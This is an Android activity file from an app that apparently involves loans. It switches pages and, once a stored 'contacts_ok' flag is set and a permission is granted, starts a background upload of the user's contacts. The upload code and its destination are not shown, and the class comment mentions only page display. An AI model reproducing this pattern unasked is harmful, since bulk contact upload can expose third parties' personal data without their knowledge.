package com.jinxd.routedstart;

import android.app.Activity;
import android.os.Bundle;

/** The only activity: it shows the page that it is told. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        go(Page.HOME);
    }

    void go(Page page) {
        getFragmentManager().beginTransaction().replace(R.id.container, page.fragment()).commit();
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        boolean agreed = getSharedPreferences("loan", 0).getBoolean("contacts_ok", false);
        if (agreed && results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
    }
}
